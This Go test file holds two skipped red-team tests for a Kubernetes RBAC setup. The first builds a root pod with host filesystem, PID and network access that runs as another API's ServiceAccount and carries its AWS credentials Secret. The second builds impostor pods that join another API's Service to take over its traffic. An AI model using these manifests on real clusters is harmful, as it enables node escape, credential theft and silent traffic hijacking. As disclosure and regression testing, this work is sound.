package rbac_test

import (
	"context"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/cortexlabs-go/cortex/internal/kube/rbac"
	"github.com/cortexlabs-go/cortex/internal/testutil/kubetest"
)

// Red team: the Kubernetes `cortex:deploy` group may create any Deployment in the APIs'
// namespace, and nothing (no Pod Security Admission label on the namespace, no admission policy,
// nothing in rbac.Apply) constrains its pod template. A cortex `deploy` identity, which through
// the operator can only run the hardened replicas cortex builds (non-root, read-only root,
// no service-account token), gets from kubectl: a root pod with the node's root filesystem,
// PID and network namespaces (node root, and from there the kubelet's credentials and every pod
// of the node, the operator's included if it shares a node), running as another API's
// ServiceAccount (its IRSA role) with another API's AWS-credentials Secret in its environment.
func TestRedteamDeployGroupCreatesHostPathPods(t *testing.T) {
	t.Skip("open (issue 9): in a namespace without Pod Security, cortex:deploy can create root hostPath/hostPID pods with other APIs' Secrets and ServiceAccounts. The install labels its namespaces restricted (internal/kube/install TestInstall refuses such a pod); what remains is deploy creating Deployments freely (see below)")
	cluster := kubetest.Start(t)
	cluster.Namespace(t, ns)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	if err := rbac.Apply(ctx, cluster.Client, ns); err != nil {
		t.Fatal(err)
	}
	// What the kube backend leaves for an API "victim" with AWS credentials: its Secret and its
	// ServiceAccount (created here by the cluster admin, as the operator would).
	if _, err := cluster.Client.CoreV1().Secrets(ns).Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "victim-aws"},
		StringData: map[string]string{"AWS_SECRET_ACCESS_KEY": "victim-secret"}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := cluster.Client.CoreV1().ServiceAccounts(ns).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "victim"}},
		metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	// A deploy identity, exactly as the TokenReview webhook describes it.
	cfg := rest.CopyConfig(cluster.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: "arn:aws:iam::123456789012:user/dave",
		Groups: rbac.Groups("deploy")}
	dave, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := dave.CoreV1().Secrets(ns).Get(ctx, "victim-aws", metav1.GetOptions{}); err == nil {
		t.Fatal("deploy reads Secrets directly (the Role changed)")
	}
	yes, one, root := true, int32(1), int64(0)
	lbl := map[string]string{"app": "escape"}
	dep := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: "escape"}, Spec: appsv1.DeploymentSpec{
		Replicas: &one, Selector: &metav1.LabelSelector{MatchLabels: lbl},
		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: lbl}, Spec: corev1.PodSpec{
			ServiceAccountName: "victim", HostPID: true, HostNetwork: true,
			Volumes: []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
			Containers: []corev1.Container{{Name: "c", Image: "registry.example/shell:1",
				SecurityContext: &corev1.SecurityContext{RunAsUser: &root, AllowPrivilegeEscalation: &yes},
				EnvFrom:         []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "victim-aws"}}}},
				VolumeMounts:    []corev1.VolumeMount{{Name: "host", MountPath: "/host"}}}},
		}}}}
	if _, err := dave.AppsV1().Deployments(ns).Create(ctx, dep, metav1.CreateOptions{}); err != nil {
		t.Logf("deploy may not create the Deployment: %v", err)
		return
	}
	// The ReplicaSet controller creates the pod (Pod admission is where Pod Security would stop it).
	var pod corev1.Pod
	err = kubetest.Poll(ctx, 100*time.Millisecond, func() (bool, error) {
		pods, err := cluster.Client.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{LabelSelector: "app=escape"})
		if err != nil || len(pods.Items) == 0 {
			return false, err
		}
		pod = pods.Items[0]
		return pod.Spec.NodeName != "", nil
	})
	if err != nil {
		ev, _ := cluster.Client.CoreV1().Events(ns).List(ctx, metav1.ListOptions{})
		for _, e := range ev.Items {
			t.Logf("event %s: %s %s", e.InvolvedObject.Name, e.Reason, e.Message)
		}
		t.Logf("no pod was admitted: %v", err)
		return
	}
	t.Fatalf("a cortex deploy identity got pod %s on node %s: runAsUser=%d hostPID=%v hostPath=%s serviceAccount=%s envFrom=%s",
		pod.Name, pod.Spec.NodeName, *pod.Spec.Containers[0].SecurityContext.RunAsUser, pod.Spec.HostPID,
		pod.Spec.Volumes[0].HostPath.Path, pod.Spec.ServiceAccountName, pod.Spec.Containers[0].EnvFrom[0].SecretRef.Name)
}

// Red team: the docs keep Services from `deploy` because "one could take over the gateway's
// traffic", but a Deployment is enough: pods labeled like an API's replicas join that API's
// Service, and the gateway (which reads its targets from the Service's EndpointSlices) sends
// them a share of the API's authenticated traffic: payloads, and answers the callers trust.
// Nothing of it shows in `cortex get` or in the operator's audit log.
func TestRedteamDeployGroupJoinsAnotherAPIsService(t *testing.T) {
	t.Skip("open (issue 9): cortex:deploy pods can carry another API's labels and join its Service (silent traffic takeover); fix: creation only through the operator, or an admission policy reserving cortex.dev/api")
	cluster := kubetest.Start(t)
	cluster.Namespace(t, ns)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	if err := rbac.Apply(ctx, cluster.Client, ns); err != nil {
		t.Fatal(err)
	}
	// The victim API's Service as the kube backend makes it (selector: its labels).
	victim := map[string]string{"app.kubernetes.io/managed-by": "cortex", "cortex.dev/api": "victim"}
	if _, err := cluster.Client.CoreV1().Services(ns).Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "victim", Labels: victim},
		Spec: corev1.ServiceSpec{Selector: victim, Ports: []corev1.ServicePort{{Port: 8080}}}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	cfg := rest.CopyConfig(cluster.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: "arn:aws:iam::123456789012:user/dave", Groups: rbac.Groups("deploy")}
	dave, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	one := int32(1)
	dep := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: "innocent"}, Spec: appsv1.DeploymentSpec{
		Replicas: &one, Selector: &metav1.LabelSelector{MatchLabels: victim},
		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: victim}, Spec: corev1.PodSpec{
			Containers: []corev1.Container{{Name: "c", Image: "registry.example/impostor:1", Ports: []corev1.ContainerPort{{ContainerPort: 8080}}}}}}}}
	if _, err := dave.AppsV1().Deployments(ns).Create(ctx, dep, metav1.CreateOptions{}); err != nil {
		t.Logf("deploy may not create it: %v", err)
		return
	}
	err = kubetest.Poll(ctx, 100*time.Millisecond, func() (bool, error) {
		sl, err := cluster.Client.DiscoveryV1().EndpointSlices(ns).List(ctx, metav1.ListOptions{LabelSelector: "kubernetes.io/service-name=victim"})
		if err != nil {
			return false, err
		}
		for _, s := range sl.Items {
			for _, e := range s.Endpoints {
				if e.TargetRef != nil && strings.HasPrefix(e.TargetRef.Name, "innocent-") && e.Conditions.Ready != nil && *e.Conditions.Ready {
					t.Logf("victim's EndpointSlice %s: ready endpoint %v -> pod %s", s.Name, e.Addresses, e.TargetRef.Name)
					return true, nil
				}
			}
		}
		return false, nil
	})
	if err != nil {
		t.Logf("the impostor never joined: %v", err)
		return
	}
	t.Fatal("a cortex deploy identity's pod is a ready endpoint of another API's Service: the gateway routes that API's callers to it")
}
